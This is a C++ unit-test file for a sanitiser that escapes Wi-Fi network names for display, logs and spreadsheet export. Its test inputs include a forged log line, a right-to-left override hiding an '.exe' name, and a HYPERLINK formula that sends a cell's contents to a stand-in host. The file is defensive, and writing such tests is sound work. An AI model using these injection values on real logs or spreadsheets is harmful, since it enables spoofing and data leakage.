#include "common/air_text.h"

#include <gtest/gtest.h>

namespace {

TEST(AirText, DisplayKeepsNamesOnTheirLineAndInTheirOrder) {
    struct Case {
        const char* what;
        std::string in, display, log;
    };
    const Case cases[] = {
        {"plain", "HomeNet", "HomeNet", "HomeNet"},
        {"accented and emoji with a joiner", "Caf\xC3\xA9 \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x92\xBB",
         "Caf\xC3\xA9 \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x92\xBB",
         "Caf\xC3\xA9 \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x92\xBB"},
        {"forged log line", "x\r\nNew AP found: evil", "x\xEF\xBF\xBD\xEF\xBF\xBDNew AP found: evil",
         "x\\x0d\\x0aNew AP found: evil"},
        {"tab and NUL", std::string("a\tb\0c", 5),
         "a\xEF\xBF\xBD"
         "b\xEF\xBF\xBD"
         "c",
         "a\\x09b\\x00c"},
        {"right-to-left override",
         "abc\xE2\x80\xAE"
         "fdp.exe",
         "abc\xEF\xBF\xBD"
         "fdp.exe",
         "abc\\u202efdp.exe"},
        {"isolate and mark", "\xE2\x81\xA6x\xE2\x80\x8F", "\xEF\xBF\xBDx\xEF\xBF\xBD", "\\u2066x\\u200f"},
        {"line separator",
         "a\xE2\x80\xA8"
         "b",
         "a\xEF\xBF\xBD"
         "b",
         "a\\u2028b"},
        {"C1 control and DEL",
         "a\xC2\x85"
         "b\x7F",
         "a\xEF\xBF\xBD"
         "b\xEF\xBF\xBD",
         "a\\x85b\\x7f"},
        {"byte order mark", "\xEF\xBB\xBFname", "\xEF\xBF\xBDname", "\\ufeffname"},
        {"backslash", "a\\x0d", "a\\x0d", "a\\\\x0d"},
        {"broken UTF-8",
         "a\xFF"
         "b\xC3",
         "a\xEF\xBF\xBD"
         "b\xEF\xBF\xBD",
         "a\\xffb\\xc3"},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(AirTextForDisplay(c.in), c.display) << c.what;
        EXPECT_EQ(AirTextForLog(c.in), c.log) << c.what;
    }
}

TEST(AirText, SpreadsheetFormulasStayText) {
    struct Case {
        std::string in, out;
    };
    const Case cases[] = {
        {"=HYPERLINK(\"//x.yz/\"&B3,\"!\")", "'=HYPERLINK(\"//x.yz/\"&B3,\"!\")"},
        {"+A1", "'+A1"},
        {"-2+3", "'-2+3"},
        {"-", "'-"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tx", "'\tx"},
        {"\rx", "'\rx"},
        {"-54 dBm", "-54 dBm"},
        {"+3", "+3"},
        {"-0.5", "-0.5"},
        {"-12%", "-12%"},
        {"-54 dBm+1", "'-54 dBm+1"},
        {"\xEF\xBC\x9D"
         "1+1",
         "'\xEF\xBC\x9D"
         "1+1"},  // full-width equals
        {"\xEF\xBC\xA0x", "'\xEF\xBC\xA0x"},  // full-width commercial at
        {"HomeNet", "HomeNet"},
        {"a=b", "a=b"},
        {"", ""},
        {" =x", " =x"},
    };
    for (const Case& c : cases) EXPECT_EQ(SpreadsheetSafe(c.in), c.out) << c.in;
}

}  // namespace
